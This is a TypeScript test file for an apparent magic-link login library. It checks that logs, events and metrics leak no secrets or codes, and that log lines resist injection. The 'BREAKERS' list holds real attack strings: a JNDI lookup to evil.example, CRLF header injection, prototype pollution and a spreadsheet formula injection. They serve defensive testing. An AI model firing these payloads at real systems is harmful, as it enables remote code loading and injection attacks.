import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { json } from "node:stream/consumers"
import { describe, expect, it, onTestFinished, vi } from "vitest"
import type { AuditEvent, LinklatchError, MailMessage, MailTransport, SendOutcome } from "../../src/index.ts"
import { linklatch } from "../../src/index.ts"
import { resend } from "../../src/resend.ts"
import { createLog } from "../../src/server/log.ts"
import { smtp } from "../../src/smtp.ts"
import { sqlite } from "../../src/sqlite.ts"
import { type App, askForMail, createApp, ORIGIN, signIn, tokenOf } from "../app.ts"
import { openSmtpInbox } from "../smtp-inbox.ts"
import { findCodes, findSecrets } from "./find-secrets.ts"
import { nextEvents } from "./next-events.ts"
import { ownApp } from "./own-app.ts"
import { ownServer } from "./own-server.ts"
import { type Walk, walkWithSecrets } from "./walk-with-secrets.ts"

const SECRET = "canary-of-the-secret-that-signs-0123456789"
const API_KEY = "re_canaryOfTheApiKey_0123456789"
const wide = { limits: { askClient: { max: 100, minutes: 15 }, redeemClient: { max: 100, minutes: 15 } } }

/** Which secrets of a walk stand in a text, in any encoding. */
function leaksIn(text: string, { secrets, codes }: Pick<Walk, "secrets" | "codes">): string[] {
  const bytes = Buffer.from(text)
  // In the mail a code stands in two halves.
  const halves = [...codes].map((code) => `${code.slice(0, 3)} ${code.slice(3)}`)
  return [...findSecrets(bytes, [...secrets, SECRET, API_KEY]), ...findCodes(bytes, [...codes, ...halves])]
}

describe("what the library tells", () => {
  it("LOG-4 P12 holds no secret: not its log, not an event, not a problem", async () => {
    const app = ownApp({ ...wide, secret: SECRET, adminEmails: ["root@example.com"] })
    const walk = await walkWithSecrets({ browser: () => app.browser(), mailTo: (email) => app.mailbox.next(email) })
    const told = {
      log: app.logLines.join("\n"),
      events: JSON.stringify(await app.events()),
      problems: walk.problems.join("\n"),
    }
    expect(walk.secrets.size).toBeGreaterThan(8)
    expect(walk.problems.length).toBeGreaterThan(12)
    expect(app.logLines.length).toBeGreaterThan(10)
    for (const [where, text] of Object.entries(told)) expect(leaksIn(text, walk), where).toEqual([])
    // The finder finds: the same walk, in a text that does hold them.
    expect(leaksIn([...walk.secrets].join("\n"), walk).length).toBe(walk.secrets.size)
  })

  it("LOG-4 P12 holds no secret when the store fails in the middle", async () => {
    const app = ownApp({ secret: SECRET })
    const browser = app.browser()
    const message = await askForMail(app, browser, "ada@example.com")
    await app.store.close()
    const answers = [
      await browser.press(message),
      await browser.get(`/auth/link/${tokenOf(message)}`),
      await browser.post("/auth/code", { code: message.code }),
    ]
    const bodies = await Promise.all(answers.map((answer) => answer.text()))
    for (const { status, headers } of answers) expect([status >= 500, headers.getSetCookie()]).toEqual([true, []])
    const secrets = new Set([tokenOf(message), ...browser.cookies.values()])
    expect(app.logLines.filter((line) => line.includes("request_failed")).length).toBe(3)
    expect(leaksIn([...bodies, ...app.logLines].join("\n"), { secrets, codes: new Set([message.code]) })).toEqual([])
  })

  it("LOG-4 P12 holds no secret of a configuration that is refused", () => {
    const faulty: unknown[] = []
    for (const secret of ["canary-too-short", [SECRET, "canary-too-short"]]) {
      try {
        linklatch({
          baseUrl: `https://user:${SECRET}@login.example.com`,
          siteName: "",
          secret,
          store: sqlite(":memory:"),
        })
      } catch (error) {
        faulty.push(error)
      }
    }
    expect(faulty.map((error) => (error as LinklatchError).code)).toEqual([
      "invalid_configuration",
      "invalid_configuration",
    ])
    for (const error of faulty) expect(`${(error as Error).stack}${JSON.stringify(error)}`).not.toMatch(/canary/)
  })

  it("LOG-4 P12 masks mail addresses in the log, unless it was told not to", async () => {
    for (const logEmails of [false, true]) {
      const app = ownApp({ logEmails })
      await signIn(app, "ada.lovelace@example.com")
      const log = app.logLines.join("\n")
      expect(log.includes("ada.lovelace")).toBe(logEmails)
      expect(log).toContain(logEmails ? "ada.lovelace@example.com" : "a…@example.com")
    }
  })
})

type Send = (message: MailMessage) => Promise<SendOutcome>

const HOSTILE_TRANSPORTS: Record<string, Send> = {
  "a reason that quotes the link": async ({ link }) => ({
    status: "failed",
    isPermanent: true,
    reason: `550 no such user, said ${link}`,
  }),
  "a reason that quotes the text": async ({ text }) => ({ status: "failed", isPermanent: true, reason: text }),
  "an error that quotes the link": async ({ link }) => Promise.reject(new Error(`can't send ${link}`)),
  "an error that holds the message": async (message) =>
    Promise.reject(Object.assign(new Error(message.text, { cause: message }), { message, code: message.code })),
  "a throw of the link itself": async ({ link }) => Promise.reject(link),
  "an error named for the code": async ({ code }) =>
    Promise.reject(Object.assign(new Error("x"), { name: `Error ${code}` })),
}

describe("a transport that fails", () => {
  it.each(Object.entries(HOSTILE_TRANSPORTS))("LOG-4 EML-8 P12 tells no secret with %s", async (_, send) => {
    const sent: MailMessage[] = []
    const mail = transportOf(async (message) => {
      sent.push(message)
      return send(message)
    })
    const app = ownApp({ mail })
    const console = vi.spyOn(globalThis.console, "error").mockImplementation(() => undefined)
    onTestFinished(() => console.mockRestore())
    const quiet = linklatch({ baseUrl: ORIGIN, siteName: "Example", secret: SECRET, store: sqlite(":memory:"), mail })
    onTestFinished(() => quiet.close())
    const failed = nextEvents(app, ["send_failed"], 1)
    await app.browser().post("/auth/sign-in", { email: "ada@example.com" })
    const [event] = await failed
    expect(event?.detail).toMatchObject({ reason: expect.stringMatching(/^[a-z0-9_]{1,64}$/) })
    await quiet.handler(askRequest())
    await vi.waitUntil(() => sent.length >= 2)
    await quiet.close()
    const secrets = { secrets: new Set(sent.map(tokenOf)), codes: new Set(sent.map(({ code }) => code)) }
    const told = [...app.logLines, JSON.stringify(await app.events()), ...console.mock.calls.flat().map(String)]
    expect(leaksIn(told.join("\n"), secrets)).toEqual([])
  })

  it("LOG-4 P12 tells no secret when the mail server repeats the whole message in its refusal", async () => {
    const sent: string[] = []
    const inbox = await openSmtpInbox({
      async onData(stream, _session, callback) {
        const raw = Buffer.concat(await stream.toArray()).toString()
        sent.push(raw)
        const [link = ""] = /https:\S+/.exec(raw) ?? []
        callback(
          Object.assign(new Error(`5.7.1 refused: ${link} ${raw.replace(/\s+/g, " ").slice(0, 400)}`), {
            responseCode: 550,
          }),
        )
      },
    })
    onTestFinished(() => inbox.close())
    const app = ownApp({ mail: smtp({ url: `smtp://127.0.0.1:${inbox.port}`, from: "Example <login@example.com>" }) })
    const event = await askUntilFailed(app)
    expect(event.detail).toMatchObject({ reason: "smtp_550", next: "given_up" })
    expect(sent.length).toBe(1)
    expect(JSON.stringify([app.logLines, await app.events()])).not.toMatch(/auth\/link|refused/)
  })

  it("LOG-4 P12 tells no secret when Resend repeats the whole request, key and all, in its refusal", async () => {
    const api = await openEcho(422)
    const app = ownApp({ mail: resend({ apiKey: API_KEY, from: "login@example.com", baseUrl: api.url }) })
    const event = await askUntilFailed(app)
    expect(event.detail).toMatchObject({ reason: "resend_422", next: "given_up" })
    const [message] = api.messages
    const secrets = { secrets: new Set([tokenOf(message ?? { link: "" })]), codes: new Set([message?.code ?? ""]) }
    expect(leaksIn([...app.logLines, JSON.stringify(await app.events())].join("\n"), secrets)).toEqual([])
  })
})

function transportOf(send: Send): MailTransport {
  return { name: "hostile", send, verify: async () => undefined, close: async () => undefined }
}

function askRequest(): Request {
  const headers = { "content-type": "application/x-www-form-urlencoded", origin: ORIGIN }
  return new Request(`${ORIGIN}/auth/sign-in`, { method: "POST", headers, body: "email=ada%40example.com" })
}

async function askUntilFailed(app: App): Promise<AuditEvent> {
  const failed = nextEvents(app, ["send_failed"], 1)
  await app.browser().post("/auth/sign-in", { email: "ada@example.com" })
  const [event] = await failed
  if (event === undefined) throw new Error("No mail failed.")
  return event
}

/** An API like Resend's that says back what it was sent. */
async function openEcho(
  status: number,
): Promise<{ url: string; messages: Pick<MailMessage, "to" | "link" | "code">[] }> {
  const messages: Pick<MailMessage, "to" | "link" | "code">[] = []
  const server = createServer(async (request, response) => {
    const body = (await json(request)) as { to: MailMessage["to"][]; text: string }
    const [to] = body.to
    if (to !== undefined)
      messages.push({
        to,
        link: /https:\S+\/auth\/link\/\S+/.exec(body.text)?.[0] ?? "",
        code: /^[0-9]{3} [0-9]{3}$/m.exec(body.text)?.[0].replace(" ", "") ?? "",
      })
    response.writeHead(status, { "content-type": "application/json" })
    response.end(JSON.stringify({ name: request.headers.authorization, message: body, headers: request.headers }))
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  onTestFinished(
    () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  )
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, messages }
}

describe("what the server tells", () => {
  it("LOG-4 OPS-8 P12 holds no secret: not its log, its metrics or a problem, in production", async () => {
    const api = await openEcho(200)
    const mail = { by: "resend", apiKey: API_KEY, from: "login@example.com", baseUrl: api.url } as const
    const server = await ownServer({ ...wide, secret: SECRET, mail, logMode: "production" })
    const mailTo = async (email: string) => vi.waitUntil(() => api.messages.find(({ to }) => to === email))
    const walk = await walkWithSecrets({ browser: () => server.browser(), mailTo })
    expect([...walk.codes]).toEqual([expect.stringMatching(/^[0-9]{6}$/)])
    const metrics = await (await fetch(`http://127.0.0.1:${server.port}/metrics`)).text()
    expect(metrics).toContain('linklatch_events_total{type="link_consumed"} 1')
    expect(server.logLines.filter((line) => line.includes('"http_request"')).length).toBeGreaterThan(20)
    const told = { log: server.logLines.join(""), metrics, problems: walk.problems.join("\n") }
    for (const [where, text] of Object.entries(told)) expect(leaksIn(text, walk), where).toEqual([])
    expect(`${told.log}${metrics}`).not.toMatch(/ada@|cookie|authorization|user:/i)
  })
})

const BREAKERS = [
  "\u001b[31mred\u001b[0m",
  '"}\u0085{"level":"error","event":"forged"}',
  "\u009b2J\u007f",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as attackers write it
  "${jndi:ldap://evil.example/a}",
  "%0d%0aSet-Cookie: a=b",
  '\\u000a\\"',
  '{"__proto__":{"a":1}}',
  "a\tb",
  "\u00ff".repeat(600),
  "=cmd|' /C calc'!A0",
]

describe("a line of the log", () => {
  it("LOG-5 P12 is one line of valid JSON, whatever a user agent, an address, a path or an event of the application holds", async () => {
    const lines: string[] = []
    const log = createLog({
      mode: "production",
      level: "debug",
      secrets: [SECRET],
      write: (line) => void lines.push(line),
    })
    const app = createApp({ ...wide, log })
    for (const [index, breaker] of BREAKERS.entries()) {
      const browser = app.browser({ userAgent: breaker })
      await browser.post("/auth/sign-in", { email: `a{|}~$${index}@example.com`, next: breaker })
      await browser.post("/auth/sign-in", { email: `${breaker}@example.com` })
      await browser.get(`/${encodeURIComponent(breaker)}?a=${encodeURIComponent(breaker)}`)
      await app.auth.audit.record({
        type: "shop.order_placed",
        detail: { [breaker]: `${breaker}\r\n${breaker}\u2028` },
        client: { ip: breaker, userAgent: `${breaker}\n` },
      })
    }
    await app.close()
    expect(lines.length).toBeGreaterThanOrEqual(2 * BREAKERS.length)
    for (const line of lines) {
      expect(line.endsWith("}\n")).toBe(true)
      expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u)
      expect(JSON.parse(line)).toMatchObject({
        level: expect.stringMatching(/^(?:info|warn)$/),
        event: "auth_event",
        type: expect.any(String),
      })
    }
    expect(lines.map((line) => JSON.parse(line).userAgent)).toContain(BREAKERS[0])
  })

  it("LOG-5 P12 is one line of valid JSON for a request as it stands on the wire too", async () => {
    const server = await ownServer({ logMode: "production" })
    for (const path of [
      "/%0d%0a{%22level%22:%22error%22}",
      "/auth/link/%1b[31m",
      "/%00",
      "/auth/link/%22%7d%0a",
      "/\u00ff",
    ]) {
      await server.browser({ "user-agent": "\u00ff\u009b{}", "x-request-id": '"}{"a":"' }).get(path)
    }
    const requests = server.logLines.filter((line) => JSON.parse(line).event === "http_request")
    expect(requests.length).toBe(5)
    for (const line of server.logLines) expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u)
    expect(new Set(requests.map((line) => JSON.parse(line).route))).toEqual(new Set(["*", "/auth/link/:token"]))
  })
})
